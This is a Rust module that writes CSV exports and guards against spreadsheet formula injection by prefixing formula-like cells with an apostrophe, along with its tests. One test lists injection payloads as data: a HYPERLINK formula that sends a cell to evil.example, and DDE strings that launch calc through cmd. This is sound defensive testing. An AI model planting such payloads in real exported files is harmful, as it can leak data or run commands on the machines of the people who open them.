//! Comma-separated values: RFC 4180, and harmless to whoever opens them in a spreadsheet.
//!
//! A spreadsheet takes a text that begins like a formula for one, and what customers write would then be run on the computer
//! of the person who reads it (OWASP, "CSV Injection"). Such texts get an apostrophe in front, as a person would write it to say
//! that it is a text. Numbers stay numbers: they are not the customer's to choose.

use std::fmt::Write as _;

use ::csv::{Terminator, WriterBuilder};

use super::chunks::Write;
use super::{Broken, Cell, Column, Row};

/// How a formula begins, in a cell as it stands and as full-width letters, which some spreadsheets take for the same.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];

/// What tells Excel that a file is UTF-8.
const MARK: &[u8] = "\u{feff}".as_bytes();

pub(super) struct Writer {
    names: Option<Row>,
    writer: ::csv::Writer<Vec<u8>>,
    line: String,
}

impl Writer {
    pub(super) fn new(columns: &[Column], mark: bool) -> Self {
        let names = columns.iter().map(|column| Cell::from(&*column.name)).collect();
        let begun = if mark { MARK.to_vec() } else { Vec::new() };
        Self { names: Some(names), writer: over(begun), line: String::new() }
    }

    /// The columns' names stand before the first row, and in a table without rows too.
    fn head(&mut self) -> Result<(), Broken> {
        match self.names.take() {
            Some(names) => self.write(&names),
            None => Ok(()),
        }
    }

    fn write(&mut self, row: &[Cell]) -> Result<(), Broken> {
        for cell in row {
            self.line.clear();
            if matches!(cell, Cell::Text(text) if text.starts_with(FORMULA))
                || matches!(cell, Cell::List(list) if list.first().is_some_and(|text| text.starts_with(FORMULA)))
            {
                self.line.push('\'');
            }
            write!(self.line, "{cell}")?;
            self.writer.write_field(&self.line)?;
        }
        Ok(self.writer.write_record(None::<&[u8]>)?)
    }
}

fn over(bytes: Vec<u8>) -> ::csv::Writer<Vec<u8>> {
    WriterBuilder::new().terminator(Terminator::CRLF).from_writer(bytes)
}

impl Write for Writer {
    fn row(&mut self, row: Row) -> Result<(), Broken> {
        self.head()?;
        self.write(&row)
    }

    fn end(&mut self) -> Result<(), Broken> {
        self.head()
    }

    fn held(&self) -> usize {
        self.writer.get_ref().len()
    }

    fn take(&mut self) -> Result<Vec<u8>, Broken> {
        let full = std::mem::replace(&mut self.writer, over(Vec::new()));
        Ok(full.into_inner().map_err(|error| error.into_error())?)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::{Kind, Table};
    use super::*;

    fn written(columns: Vec<Column>, rows: Vec<Row>, mark: bool) -> String {
        let chunks: Vec<Vec<u8>> =
            Table::new("t", columns, rows).csv(mark).collect::<Result<_, _>>().unwrap();
        String::from_utf8(chunks.concat()).unwrap()
    }

    fn one(cell: impl Into<Cell>) -> String {
        let text = written(vec![Column::new("a", Kind::Text)], vec![vec![cell.into()]], false);
        text.strip_prefix("a\r\n").unwrap().strip_suffix("\r\n").unwrap().to_owned()
    }

    #[test]
    fn what_a_customer_writes_is_never_a_formula() {
        for formula in [
            "=1+1",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"ok\")",
            "+44 7700 900123",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1+1",
        ] {
            let cell = one(formula);
            let inner = cell.trim_start_matches('"');
            assert!(inner.starts_with('\''), "{cell}");
        }
        assert_eq!(
            one("=1+\"2\",3"),
            "\"'=1+\"\"2\"\",3\"",
            "quoted as a whole: nothing begins behind the comma"
        );
        assert_eq!(one(Cell::List(vec!["=1".into(), "b".into()])), "'=1; b");
        assert_eq!(written(vec![Column::new("=1", Kind::Text)], vec![], false), "'=1\r\n");
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(one(-12.5), "-12.5");
        assert_eq!(one(-3_i64), "-3");
        assert_eq!(one(f64::NAN), "\"\"");
        assert_eq!(one("1 - 2 = 3"), "1 - 2 = 3", "a formula only begins a cell");
    }

    #[test]
    fn the_names_stand_first_behind_the_mark() {
        let columns = vec![Column::new("a", Kind::Text), Column::new("b", Kind::List)];
        assert_eq!(written(columns.clone(), vec![], false), "a,b\r\n");
        let rows = vec![vec![Cell::Absent, Cell::List(vec!["x".into(), "y".into()])]];
        assert_eq!(written(columns, rows, true), "\u{feff}a,b\r\n,x; y\r\n");
    }

    proptest! {
        #[test]
        fn every_text_is_read_back_as_it_was(texts in prop::collection::vec(("\\PC{0,8}|[,;\"'\r\n =+x-]{0,8}", "\\PC{0,8}"), 0..40)) {
            let columns = vec![Column::new("a", Kind::Text), Column::new("b", Kind::Text)];
            let rows = texts.iter().map(|(a, b)| vec![a.as_str().into(), b.as_str().into()]).collect();
            let written = written(columns, rows, false);
            let mut reader = ::csv::ReaderBuilder::new().from_reader(written.as_bytes());
            let read: Vec<::csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
            prop_assert_eq!(read.len(), texts.len());
            for (record, (a, b)) in read.iter().zip(&texts) {
                for (read, text) in record.iter().zip([a, b]) {
                    let harmless = if text.starts_with(FORMULA) { format!("'{text}") } else { text.clone() };
                    prop_assert_eq!(read, harmless);
                }
            }
        }
    }
}
